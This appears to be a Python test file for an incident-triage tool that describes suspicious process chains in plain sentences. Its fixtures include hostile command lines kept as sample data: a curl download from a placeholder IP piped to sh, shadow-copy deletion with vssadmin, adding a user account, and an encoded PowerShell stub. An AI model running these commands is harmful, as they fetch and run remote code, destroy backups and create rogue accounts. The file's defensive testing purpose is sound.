"""The sentence of a finding: well-formed whatever happened and whatever it was called."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from engine.knowledge.tables import blocks, load
from engine.knowledge.telling import Telling, tellings
from tests.tui.test_sentences import ACTS
from tui.words.spans import wrap
from tui.words.triage.sentence import LINES, VERBS, WIDTH, WORDS, Actor, clause, sentence

JUDGING = re.compile(r"anomal|suspicious|reconstruct|score", re.IGNORECASE)
PATHS = st.sampled_from([
    "/usr/sbin/apache2", "/usr/bin/dash", "/tmp/.cache/kswapd0", "/dev/shm/.x",
    "c:\\windows\\system32\\inetsrv\\w3wp.exe",
    "c:\\windows\\system32\\cmd.exe", "c:\\windows\\system32\\vssadmin.exe",
    "c:\\program files\\microsoft office\\winword.exe",
    "c:\\users\\<u>\\appdata\\local\\temp\\invoice.pdf.exe", "/usr/bin/find", "/usr/sbin/cron",
    "/usr/lib/postgresql/bin/postgres",
])  # fmt: skip
LINES_OF = st.sampled_from([
    "sh -c 'curl -s http://192.0.2.77/x.sh -o /dev/shm/.x'", "vssadmin delete shadows /all /quiet", "find / -perm -4000 -type f",
    "cmd /c net user a b /add", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBj", "", "id",
])  # fmt: skip
HOSTILE = st.text(max_size=80)


@st.composite
def actors(draw: st.DrawFn) -> Actor:
    steps = draw(st.lists(PATHS | HOSTILE, max_size=5))
    name = draw(st.just(steps[-1].replace("\\", "/").rpartition("/")[2] if steps else "") | HOSTILE)
    user, before = draw(HOSTILE), draw(st.just("") | HOSTILE)
    return Actor(name, user, steps, draw(LINES_OF | HOSTILE), draw(st.integers(0, 9)), draw(HOSTILE), before)


def said_of(actor: Actor) -> list[Telling]:
    return list(tellings(actor.steps, actor.command_line))


@given(actors(), st.lists(actors(), max_size=3), st.lists(HOSTILE, max_size=2))
def test_any_incident_has_a_sentence(main: Actor, others: list[Actor], counted: list[str]) -> None:
    then = [(one, told[0]) for one in others if (told := said_of(one))]
    text = sentence(main, said_of(main), then, counted)
    assert text[0].isupper()
    assert text.endswith(".")
    assert not text.endswith("..")
    assert "  " not in text
    assert len(text.split()) <= WORDS
    assert len(wrap(text, WIDTH)) <= LINES
    assert not ACTS.search(text)


def test_who_does_what_by_what_means_and_what_follows() -> None:
    steps = ("/usr/sbin/apache2", "/usr/bin/dash")
    main = Actor("dash", "www-data", steps, "sh -c 'curl -s http://192.0.2.77/x.sh | sh'", 1, "apache2")
    later = Actor("kswapd0", "www-data", (*steps, "/tmp/.cache/kswapd0"), "", 2, "dash")
    text = sentence(main, said_of(main)[:1], [(later, said_of(later)[0])], ["never read"])
    assert text == (
        "The web server apache2, as www-data, starts dash, which runs a download at once (http://192.0.2.77/x.sh); then kswapd0"
        " is named like a kernel thread."
    )


def test_without_a_table_s_word_what_was_counted_is_told() -> None:
    main = Actor("ssh", "anna", ("/usr/bin/bash", "/usr/bin/ssh"), "ssh host", 1, "bash")
    assert sentence(main, [], [], ["bash started ssh twice among 1,971 starts"]) == (
        "Account anna, through bash, starts ssh; bash started ssh twice among 1,971 starts."
    )
    assert sentence(Actor("x", "root", (), "", 1, "", "git"), [], [], []) == "Account git, risen to root, starts x."
    assert sentence(Actor("", "", (), "", 1), [], [], []) == "Something that no record names starts ?."


@pytest.mark.parametrize("name", ["rule", "break", "expected", "barren"])
def test_every_phrase_has_a_verb_for_a_sentence(name: str) -> None:
    table = "commands" if name == "rule" else "lineage"
    assert [block["phrase"] for block in blocks(name, (table,)) if VERBS.isdisjoint(block["phrase"].split())] == []


def test_every_place_has_a_verb_for_a_sentence() -> None:
    places = [block for table in ("locations_linux", "locations_windows") for block in load(table).values() if "phrase" in block]
    assert [block["phrase"] for block in places if VERBS.isdisjoint(block["phrase"].split())] == []


def test_clauses_read_as_such() -> None:
    said = {clause(one) for one in tellings(("/usr/bin/bash", "/tmp/.cache/kswapd0"))}
    assert said == {"is named like a kernel thread", "runs hidden in temp"}
    assert [clause(one) for one in tellings(("c:\\windows\\system32\\svch0st.exe",))] == ["has a name near svchost.exe"]
    assert clause(tellings(("/usr/bin/bash", "/usr/bin/ssh"))[0]) == "is remote access"


def test_no_clause_judges() -> None:
    phrases = [block["phrase"] for key, table in (("rule", "commands"), ("break", "lineage")) for block in blocks(key, (table,))]
    assert [phrase for phrase in phrases if JUDGING.search(phrase)] == []
